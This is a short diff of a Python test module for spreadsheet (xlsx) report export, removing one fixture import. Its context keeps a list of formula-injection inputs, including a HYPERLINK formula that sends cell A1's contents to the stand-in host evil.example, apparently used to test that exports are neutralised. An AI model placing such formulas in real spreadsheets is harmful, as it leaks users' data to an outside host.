@@ -16,7 +16,6 @@ from engine.comparison import Cell, Comparison
 from engine.comparison_xlsx import write_comparison_xlsx
 from engine.models import Message
 from engine.report_xlsx import write_xlsx
-from tests.web.hardening_support import app, client_for  # noqa: F401
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=1+1", "+7 (495) 000", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")
